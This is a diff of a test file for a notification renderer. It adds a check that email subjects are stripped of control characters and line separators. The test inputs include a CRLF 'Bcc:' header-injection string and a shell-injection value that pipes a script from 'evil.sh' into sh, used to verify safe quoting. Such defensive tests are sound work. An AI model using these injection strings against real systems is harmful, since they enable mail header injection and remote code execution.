@@ -138,6 +138,16 @@ test('the approval request goes to the expanded recipients, de-duplicated, with 
     ORG,
   );
   const h = renderNotification(row(hostile[0] as NewNotification), CTX);
+  const breaking = composeRequestCreated(
+    { request: request({ app_name: 'Evil\u0085NEL\u2028LS\u009bC1\r\nBcc: x@evil.example' }), merged: false },
+    ORG,
+  );
+  const subject = renderNotification(row(breaking[0] as NewNotification), CTX).subject;
+  assert.not.match(
+    subject,
+    /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/,
+    'no control or line separator in a subject',
+  );
   assert.match(h.text, "apps approve 'x;curl evil.sh|sh;#' --name 'it'\\''s $(id)' --org");
 
   const c = renderNotification(row(rows[1] as NewNotification), CTX);
